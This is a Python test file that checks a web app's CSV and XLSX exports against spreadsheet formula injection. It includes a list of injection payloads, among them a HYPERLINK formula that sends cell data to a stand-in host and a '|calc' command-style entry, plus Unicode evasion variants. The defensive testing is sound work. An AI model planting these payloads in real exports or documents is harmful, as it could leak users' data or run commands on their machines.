"""No cell of a table is a formula, whatever stands in the register (rules R-EXP-1 and R-EXP-2)."""

import csv
import io

import openpyxl
import pytest

from guardianship.accounts.roles import Role
from guardianship.lib.safe_cells import safe_cell
from tests.builders.people import signed_in
from tests.builders.places import a_listing, an_organisation
from tests.places.finder.asking import SATURDAY_EVENING

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "|calc",
    "%0A=1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u2066=1+1",
    "＝1+1",
    "﹢1+1",
    "－2",
    "＠SUM(A1)",
    "\x00=1+1",
    "\x1b=1+1",
    "\u2028=1+1",
    "\u0301=1+1",
]
HARMLESS = ["Friday Club", "1 Market Street", "01632 960001", "a=b", "Tŷ Cŵn", "11–18", "🎲 games"]
BEGINNINGS = tuple("=+-@|%\t\r\n ＝＋－＠")


@pytest.mark.parametrize("text", ATTACKS, ids=ascii)
def test_a_formula_gets_a_mark_before_it(text) -> None:
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(("value", "cell"), [(None, ""), (-3.15, "-3.15"), (14, "14"), ("", "")])
def test_numbers_stay_numbers_and_nothing_nothing(value, cell) -> None:
    assert safe_cell(value) == cell


@pytest.mark.django_db
def test_the_public_table(client, freeze) -> None:
    freeze(SATURDAY_EVENING)
    plain = [text.replace("\x00", "") for text in ATTACKS]  # which PostgreSQL keeps in no text
    for text in plain:
        a_listing("Club", summary=text, cost_note=text, phone="+44 1632 960001", at_m=None)
    content = client.get("/find/list.csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content)))
    assert len(rows) == len(plain)
    for row in rows:
        assert [cell for cell in row.values() if cell.startswith(BEGINNINGS)] == []
        assert row["phone"] == "01632 960001"
    assert content.count("\r\n") == len(plain) + 1
    assert "\n" not in content.replace("\r\n", "")


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["listing", "organisation"])
def test_wagtail_s_own_tables(freeze, kind) -> None:
    """Wagtail writes CSV with no care for formulas, and its XLSX breaks on control characters."""
    freeze(SATURDAY_EVENING)
    attacks = [text.replace("\x00", "") for text in ATTACKS]
    for number, text in enumerate(attacks):
        organisation = an_organisation(f"{text} {number}")
        if kind == "listing":
            a_listing(f"{text} {number}", slug=f"club-{number}", organisation=organisation)
    client = signed_in(Role.MODERATOR)
    address = f"/admin/snippets/places/{kind}/"
    response = client.get(f"{address}?export=csv&purpose=check")
    text = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert len([c for c in cells if c.startswith("'")]) >= len(attacks)
    assert [c for c in cells if c.startswith(BEGINNINGS)] == []
    response = client.get(f"{address}?export=xlsx&purpose=check")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert {cell.data_type for row in sheet.rows for cell in row} <= {
        "inlineStr",
        "s",
        "n",
        "d",
        "b",
    }
    assert sheet.max_row == len(attacks) + 1
